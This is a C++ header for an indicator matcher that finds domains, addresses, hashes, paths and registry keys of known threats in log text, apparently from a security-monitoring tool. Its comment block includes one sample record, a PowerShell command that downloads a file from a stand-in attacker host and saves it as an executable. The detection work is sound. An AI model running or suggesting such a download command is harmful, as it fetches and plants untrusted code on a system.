// IndicatorSet: which of many indicators a record's text holds, at a cost that hardly depends on
// their number.
//
// The idea: every indicator is found by looking up one word of the text; nothing is searched for.
// (What a word is, match/word_text.h says.)
//
//   domain      evil.example               the endings of each word with a dot, at its dots
//   address     10.0.0.1, fe80::1          words that read as an address, as a number
//   network     10.0.0.0/8                 the same number, cut to each prefix length in use
//   hash        d41d8cd9...                runs of hexadecimal digits of a hash's length
//   file name   evil.exe                   a whole word
//   all else    http://evil.example/a.php  one of its own words with a dot, the rarest in the lists
//               C:\Temp\my evil.exe        (here a.php; evil.exe), then the rest compared in place
//
// Words without a dot, most of a record, cost nothing but being passed over. What has no word with
// a dot (folders, registry keys, mutexes), or shares all of its words with too many others, is left
// to a LiteralScanner. Example: of
//
//   "powershell -c iwr http://evil.example/a.php -o c:\temp\my evil.exe"
//
// five words have a dot or are looked at as addresses: evil.example (a domain? then a word of some
// URL?), a.php, evil.exe; "powershell" and the rest are not looked up.
//
// What hits, exactly; all comparisons are of folded text (base/fold.h):
//   domain     a word equals it or ends with a dot and it
//   address    a part of a word between dashes, without the dots at its ends, reads as IPv4; or a
//              run of hexadecimal digits, ':' and '.' reads as IPv6 (see find_ipv6)
//   hash       a longest run of hexadecimal digits equals it
//   path       with a drive: its rest stands behind this drive letter and colon or behind a device
//              (\Device\HarddiskVolume3); with a %variable% at its start: also as the folder that
//              the variable stands for; ends where a word may end
//   registry   its part below the hive; ends where a word may end
//   others     it stands there, and does not begin or end inside a word
//
// Immutable; thread-safe.
#pragma once

#include <array>
#include <cstdint>
#include <memory>
#include <span>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "base/bytes.h"
#include "indicator/indicator.h"
#include "match/literal_scanner.h"
#include "match/network_match.h"
#include "match/word_table.h"

namespace noroshi {

// An indicator found in a text, and where its decisive part begins.
struct IndicatorHit {
  std::uint32_t indicator = 0;
  std::uint32_t position = 0;  // bytes

  auto operator<=>(const IndicatorHit&) const = default;
};

class IndicatorSet {
 public:
  // Equal indicators count once: the first stands. Cost: about 1 us an indicator.
  explicit IndicatorSet(std::span<const Indicator> indicators);

  // Of those given to the constructor, without the repeated ones.
  [[nodiscard]] const std::vector<Indicator>& indicators() const { return indicators_; }
  [[nodiscard]] std::size_t repeated() const { return repeated_; }

  // Appends what `folded` holds; the same hit may come several times, in no order. `folded` may be
  // several values with line feeds between: no indicator reaches over one.
  // Cost: about 1 ns a byte, and 10 ns for each word with a dot.
  void find(std::string_view folded, std::vector<IndicatorHit>& hits) const;
  // A binary value: only as a hash.
  void find_in_binary(Bytes bytes, std::vector<IndicatorHit>& hits) const;

  // Whether identifiers (SIDs, GUIDs) can hold anything that is sought.
  [[nodiscard]] bool seeks_plain_text() const { return scanner_ || backslash_scanner_; }

 private:
  enum class Front : std::uint8_t { kWord, kDrive };

  // Text that is compared in place.
  struct Literal {
    std::string text;  // folded
    std::uint32_t indicator = 0;
    std::uint32_t anchor = 0;  // where the word by which it is found begins
    Front front = Front::kWord;
    char drive = 0;  // kDrive
  };
  struct AddressKey {
    std::array<std::uint8_t, 16> bytes{};  // cut to the prefix
    std::uint8_t prefix = 128;
    bool is_ipv4 = false;
    bool operator==(const AddressKey&) const = default;
  };
  struct AddressHash {
    std::size_t operator()(const AddressKey& key) const;
  };
  class Builder;

  void find_word(std::string_view text, std::size_t start, std::size_t end, std::uint8_t classes,
                 std::vector<IndicatorHit>& hits) const;
  void find_dotted(std::string_view text, std::size_t start, std::size_t end, std::uint8_t classes,
                   std::vector<IndicatorHit>& hits) const;
  void find_ipv4(std::string_view text, std::size_t start, std::size_t end,
                 std::vector<IndicatorHit>& hits) const;
  void find_ipv6(std::string_view text, std::vector<IndicatorHit>& hits) const;
  void find_hashes(std::string_view text, std::size_t start, std::size_t end,
                   std::vector<IndicatorHit>& hits) const;
  void find_address(const Address& address, std::size_t position,
                    std::vector<IndicatorHit>& hits) const;
  void find_literals(const LiteralScanner& scanner, std::string_view text,
                     std::vector<IndicatorHit>& hits) const;
  // Whether the literal stands in `text` with its first byte at `at`.
  [[nodiscard]] bool stands(const Literal& literal, std::string_view text, std::size_t at) const;
  static AddressKey key_of(const Address& address, unsigned prefix);

  std::vector<Indicator> indicators_;
  std::size_t repeated_ = 0;

  WordTable domains_;
  std::vector<std::uint32_t> domain_of_;  // by number in the table: the indicator
  WordTable anchors_;                     // by number in the table: the literal
  std::vector<std::uint32_t> anchor_of_;
  WordTable hashes_;
  std::vector<std::uint32_t> hash_of_;
  std::unordered_map<AddressKey, std::vector<std::uint32_t>, AddressHash> addresses_;
  std::vector<unsigned> prefixes_[2];  // in use: of IPv6, of IPv4
  std::vector<Literal> literals_;
  std::unique_ptr<LiteralScanner> backslash_scanner_;  // literals that hold a backslash
  std::unique_ptr<LiteralScanner> scanner_;
};

}  // namespace noroshi
